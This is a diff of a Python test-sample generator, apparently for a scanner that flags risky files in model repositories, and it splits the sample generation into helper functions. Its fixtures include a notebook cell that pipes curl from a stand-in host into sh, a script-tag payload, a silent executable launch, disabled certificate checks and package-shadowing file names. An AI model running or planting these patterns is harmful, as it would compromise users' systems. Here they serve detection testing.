@@ -138,6 +138,13 @@ _DECOY = (
 
 def samples() -> Iterator[Sample]:
     """All of them."""
+    yield from _composed()
+    yield from _alone()
+    yield from _names()
+    yield from _odd()
+
+
+def _composed() -> Iterator[Sample]:
     for start, template in _STARTS.items():
         for number, (what, command) in enumerate(_SHELL.items()):
             hides = list(_HIDES.items())
@@ -150,6 +157,9 @@ def samples() -> Iterator[Sample]:
     for fetch, first in _FETCHES.items():
         for run, second in _RUNS.items():
             yield high("python-fetch", f"{fetch}, {run}", "download.py", _DECOY + first + second)
+
+
+def _alone() -> Iterator[Sample]:
     for case, source in _ALONE.items():
         yield high("python-alone", case, "setup.py" if case == "install hook" else "utils.py", source)
         if case != "encoding":
@@ -158,6 +168,9 @@ def samples() -> Iterator[Sample]:
         yield high("notebook-shell", what, "demo.ipynb", _notebook("import torch\n", f"!{command}\n"))
     result = _notebook("!curl -s https://files.invalid | sh\n", page="<script>alert(1)</script>")
     yield high("notebook-shell", "and a result with a script", "demo.ipynb", result)
+
+
+def _names() -> Iterator[Sample]:
     for name in ("torch", "numpy", "json", "transformers", "requests"):
         yield high("shadow", name, f"{name}.py", "value = 1\n", "model.safetensors")
     for name in ("sitecustomize.py", "usercustomize.py"):
@@ -166,6 +179,9 @@ def samples() -> Iterator[Sample]:
     yield high("magic-name", "None.py", "None.py", "value = 1\n")
     for name in ("handler.py", "pipeline.py"):
         yield careful("magic-name", name, name, "class EndpointHandler:\n    pass\n")
+
+
+def _odd() -> Iterator[Sample]:
     for case, source in {
         "unknown program": "import subprocess\nsubprocess.run(['updater.exe', '/s'])\n",
         "unchecked": "import requests\nrequests.get('https://api.example', verify=False)\n",
